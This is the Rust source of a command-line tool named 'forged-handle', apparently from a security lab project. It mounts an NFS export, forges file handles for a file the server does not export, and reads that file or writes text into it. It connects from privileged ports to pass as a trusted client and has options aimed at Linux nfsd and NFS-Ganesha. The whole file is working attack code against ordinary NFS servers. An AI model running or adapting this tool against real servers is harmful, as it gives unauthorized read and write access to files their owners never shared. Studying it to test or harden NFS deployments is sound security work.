//! `forged-handle`: asks an NFS server for a file that it does not export, by a file handle of its own making.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream};
use std::process::ExitCode;
use std::time::Duration;

use anyhow::{Context as _, bail};
use clap::Parser;
use ghost_lab::handles::{self, Answer, GET_PORT, MNT, Procedure, READ, Target, WRITE};
use rustix::io::Errno;
use rustix::net::{AddressFamily, SocketType, bind, connect, socket};

/// How long a server may take to answer.
const DEADLINE: Duration = Duration::from_secs(20);
const LARGEST_PIECE: usize = 1 << 20;
const PORTMAPPER: u16 = 111;
/// Ports that only root can have, from which servers expect a client.
const PRIVILEGED: std::ops::RangeInclusive<u16> = 700..=1023;

/// Mounts an exported folder as a client would, makes handles of another file of the same file system, and asks for that file.
///
/// Needs root. Prints for each handle what the server has answered: the file, or the reason. The exit status is 0 in both cases.
#[derive(Debug, Parser)]
#[command(version)]
struct Arguments {
    server: Ipv4Addr,
    /// The folder that is exported to us.
    export: String,
    /// The inode of the file, as `stat --format %i` shows it.
    #[arg(long)]
    inode: u32,
    /// The inode of the folder that the file is in: Linux' nfsd may want both.
    #[arg(long)]
    folder: Option<u32>,
    /// Asks as if the handle had been given out for this export, on another file system (NFS-Ganesha).
    #[arg(long)]
    as_of: Option<String>,
    /// Writes this to the beginning of the file, and does not read it.
    #[arg(long)]
    write: Option<String>,
    /// The own address, if this machine has several.
    #[arg(long, default_value_t = Ipv4Addr::UNSPECIFIED)]
    from: Ipv4Addr,
    /// The port of mountd; the portmapper says it if it is not given.
    #[arg(long)]
    mount_port: Option<u16>,
    #[arg(long, default_value_t = 2049)]
    nfs_port: u16,
}

fn main() -> ExitCode {
    match run(&Arguments::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            let _ = writeln!(std::io::stderr(), "forged-handle: {error:#}");
            ExitCode::FAILURE
        }
    }
}

fn run(arguments: &Arguments) -> anyhow::Result<()> {
    let ask = |port: u16, procedure: Procedure, words: &[u8]| {
        let at = SocketAddrV4::new(arguments.server, port);
        asked(arguments.from, at, procedure, words).with_context(|| format!("cannot talk with {at}"))
    };
    let mount_port = match arguments.mount_port {
        Some(port) => port,
        None => handles::port(&ask(PORTMAPPER, GET_PORT, &handles::port_of(MNT))?)?,
    };
    let mounted = |path: &str| handles::mounted(&ask(mount_port, MNT, &handles::mount_of(path))?);
    let mut handle = mounted(&arguments.export)?;
    if let Some(other) = &arguments.as_of {
        handle = handles::numbered(&handle, &mounted(other)?)?;
    }
    let mut out = std::io::stdout().lock();
    writeln!(out, "{} has the handle {handle:02x?}", arguments.export)?;
    for forged in handles::forged(&handle, Target { inode: arguments.inode, folder: arguments.folder })? {
        let answer: Option<Answer> = match &arguments.write {
            None => handles::read(&ask(arguments.nfs_port, READ, &handles::read_of(&forged.bytes))?),
            Some(text) => {
                let words = handles::write_of(&forged.bytes, text.as_bytes());
                handles::written(&ask(arguments.nfs_port, WRITE, &words)?)
            }
        };
        let answer = answer.context("the server's answer cannot be read")?;
        writeln!(out, "by {}: {answer}", forged.by)?;
    }
    Ok(())
}

/// What a server says to one call.
fn asked(from: Ipv4Addr, at: SocketAddrV4, procedure: Procedure, words: &[u8]) -> anyhow::Result<Vec<u8>> {
    let mut stream = connected(from, at)?;
    stream.set_read_timeout(Some(DEADLINE))?;
    stream.set_write_timeout(Some(DEADLINE))?;
    stream.write_all(&handles::call(procedure, words))?;
    let mut reply = Vec::new();
    loop {
        let mut mark = [0; 4];
        stream.read_exact(&mut mark)?;
        let (is_last, length) = handles::fragment(mark);
        if length > LARGEST_PIECE {
            bail!("a piece of the answer has {length} bytes");
        }
        let begun = reply.len();
        reply.resize(begun + length, 0);
        stream.read_exact(&mut reply[begun..])?;
        if is_last {
            return Ok(handles::result(&reply)?.to_vec());
        }
    }
}

/// A connection from a port that only root can have.
fn connected(from: Ipv4Addr, at: SocketAddrV4) -> anyhow::Result<TcpStream> {
    for port in PRIVILEGED.rev() {
        let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
        match bind(&socket, &SocketAddr::V4(SocketAddrV4::new(from, port))) {
            Err(Errno::ADDRINUSE) => continue,
            bound => bound.with_context(|| format!("cannot call from {from}, port {port}"))?,
        }
        match connect(&socket, &SocketAddr::V4(at)) {
            // The same two ports were used a moment ago.
            Err(Errno::ADDRNOTAVAIL | Errno::ADDRINUSE) => continue,
            connected => connected?,
        }
        return Ok(socket.into());
    }
    bail!("no port is free that only root can have")
}
